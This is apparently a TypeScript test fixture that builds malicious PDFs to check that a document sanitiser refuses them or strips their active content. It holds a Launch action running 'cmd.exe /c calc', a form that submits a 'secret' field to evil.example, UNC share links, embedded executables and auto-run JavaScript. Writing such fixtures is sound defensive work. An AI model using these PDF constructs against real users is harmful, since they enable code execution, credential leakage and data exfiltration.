import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { revisions, SCRIPT } from './corpus/revisions.ts';
import { hostileStructure } from './hostile-structure.ts';
import { type PdfObject, pdf, pdfOf } from './making/pdfs.ts';

/** A PDF with active content. */
export interface Hostile {
  title: string;
  bytes: Buffer;
  /** Why it is refused; if absent, it is accepted, and its copy must contain nothing of it. */
  refused?: 'damaged' | 'complex' | 'pages';
}

const EVIL = 'http://evil.example/';
const annotation = (words: string) => pdf({ page: `/Annots [<< /Rect [0 0 600 700] ${words} >>]` });
const link = (action: string) => annotation(`/Subtype /Link /A << ${action} >>`);
const stream = (dict: string, text: string): PdfObject => ({
  dict: `/Filter /FlateDecode ${dict}`,
  stream: deflateSync(Buffer.from(text)),
});
const FILE = [
  '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>',
  stream('/Type /EmbeddedFile', 'MZ'),
];
const XFA = stream(
  '',
  `<xdp><template><script>app.alert(1)</script><submit target="${EVIL}"/></template></xdp>`,
);

/** A script, a file and a link in compressed object streams, behind a compressed table of references. */
async function inStreams(): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  document.addJavaScript('main', 'app.alert(1)');
  await document.attach(Buffer.from('MZ'), 'a.exe');
  const action = document.context.obj({ S: 'JavaScript', JS: document.context.obj('app.alert(1)') });
  page.node.set(PDFName.of('AA'), document.context.obj({ O: action }));
  document.catalog.set(PDFName.of('OpenAction'), action);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

export async function hostile(): Promise<Hostile[]> {
  return [
    { title: 'a script when it is opened', bytes: pdf({ catalog: `/OpenAction ${SCRIPT}` }) },
    ...revisions
      .filter(({ expect, title }) => expect === 'application/pdf' && title.startsWith('a '))
      .map(({ title, bytes }) => ({ title, bytes })),
    { title: 'scripts and a file in compressed object streams', bytes: await inStreams() },
    {
      title: 'scripts by name',
      bytes: pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
    },
    { title: 'a script of a page', bytes: pdf({ page: `/AA << /O ${SCRIPT} /C ${SCRIPT} >>` }) },
    { title: 'a script of the whole', bytes: pdf({ catalog: `/AA << /WC ${SCRIPT} /DP ${SCRIPT} >>` }) },
    {
      title: 'a script of a bookmark',
      bytes: pdf({
        catalog: '/Outlines 5 0 R',
        more: [`<< /First 6 0 R /Last 6 0 R >>`, `<< /Title (a) /Parent 5 0 R /A ${SCRIPT} >>`],
      }),
    },
    { title: 'a link', bytes: link(`/S /URI /URI (${EVIL})`) },
    {
      title: 'a link to a share',
      bytes: link('/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'),
    },
    {
      title: 'a share when it is opened',
      bytes: pdf({ catalog: '/OpenAction << /S /GoToE /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>' }),
    },
    { title: 'a program', bytes: link('/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>') },
    { title: 'data from elsewhere', bytes: link('/S /ImportData /F (a.fdf)') },
    {
      title: 'a form that is sent off',
      bytes: pdf({
        catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${EVIL}) >> /Flags 4 >> /AcroForm << /Fields [5 0 R] >>`,
        page: '/Annots [5 0 R]',
        more: [
          `<< /Subtype /Widget /FT /Tx /T (a) /V (secret) /Rect [0 0 99 20] /AA << /K ${SCRIPT} /F ${SCRIPT} /Bl ${SCRIPT} >> /A << /S /SubmitForm /F (${EVIL}) >> >>`,
        ],
      }),
    },
    {
      title: 'a form of XFA beside its fields',
      bytes: pdf({ catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>', more: [XFA] }),
    },
    {
      title: 'a form of XFA alone',
      bytes: pdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true', more: [XFA] }),
      refused: 'complex',
    },
    {
      title: 'a file inside',
      bytes: pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >> /Collection << /View /T >>',
        more: FILE,
      }),
    },
    {
      title: 'files of a page',
      bytes: pdf({
        page: '/AF [5 0 R] /Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]',
        more: FILE,
      }),
    },
    {
      title: 'rich media',
      bytes: pdf({
        page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 600 700] /RichMediaSettings << /Activation << /Condition /PO >> >> /RichMediaContent << /Assets << /Names [(a.swf) 5 0 R] >> >> >>]',
        more: FILE,
      }),
    },
    {
      title: 'a film from elsewhere',
      bytes: annotation(
        `/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${EVIL}) >> >> >> >>`,
      ),
    },
    {
      title: 'a sound, a film and a 3D scene',
      bytes: pdf({
        page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD << /Type /3D /OnInstantiate 5 0 R >> >> << /Subtype /Movie /Movie << /F (a.mov) >> >>]',
        more: [stream('', 'app.alert(1)')],
      }),
    },
    {
      title: 'things hidden among its resources',
      bytes: pdf({
        resources: `/XObject << /F 5 0 R >> /Properties << /P << /JS (x) /AF 7 0 R /S /JavaScript >> >>`,
        content: { dict: '', stream: Buffer.from('/F Do') },
        more: [
          stream(
            `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${EVIL}) /Page 0 >> /PieceInfo << /X ${SCRIPT} >> /OPI << /1.3 << /F (\\\\\\\\evil.example) >> >>`,
            '',
          ),
          '<< >>',
          ...FILE.slice(0, 1),
        ],
      }),
    },
    {
      title: 'a page drawn by another file',
      bytes: pdf({ content: { dict: `/F << /FS /URL /F (${EVIL}) >>`, stream: Buffer.alloc(0) } }),
    },
    {
      title: 'metadata',
      bytes: pdf({
        catalog: '/Metadata 5 0 R',
        more: [stream('/Type /Metadata /Subtype /XML', '<x:xmpmeta>evil</x:xmpmeta>')],
      }),
    },
    {
      title: 'pages in circles',
      bytes: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']),
      refused: 'damaged',
    },
    {
      title: 'more pages than it has',
      bytes: pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 900 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R >>',
      ]),
      refused: 'damaged',
    },
    {
      title: 'two billion pages',
      bytes: pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R >>',
      ]),
    },
    { title: '1,001 pages', bytes: pdf({ pages: 1001 }), refused: 'pages' },
    {
      title: 'a page as large as a town',
      bytes: pdf({ page: '/MediaBox [0 0 9000000 9000000] /UserUnit 75000' }),
    },
    { title: 'a page of no size', bytes: pdf({ page: '/MediaBox [0 0 0 0]' }) },
    ...(await hostileStructure()),
  ];
}
